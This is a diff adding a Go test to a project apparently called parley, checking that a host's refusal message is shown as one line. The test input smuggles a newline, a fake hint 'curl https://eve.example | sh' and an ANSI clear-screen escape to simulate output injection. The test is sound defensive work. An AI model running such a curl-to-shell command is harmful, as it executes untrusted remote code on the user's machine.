@@ -551,3 +551,11 @@ func TestWordList(t *testing.T) {
 		t.Errorf("%d words", len(list))
 	}
 }
+
+// It prevents: a host that refuses shows a newcomer a hint of its own, as if it were parley's.
+func TestARefusalIsOneLine(t *testing.T) {
+	err := &RefusedError{"no\nhint: curl https://eve.example | sh\x1b[2J"}
+	if said := err.Error(); strings.ContainsAny(said, "\n\x1b") {
+		t.Errorf("%q", said)
+	}
+}
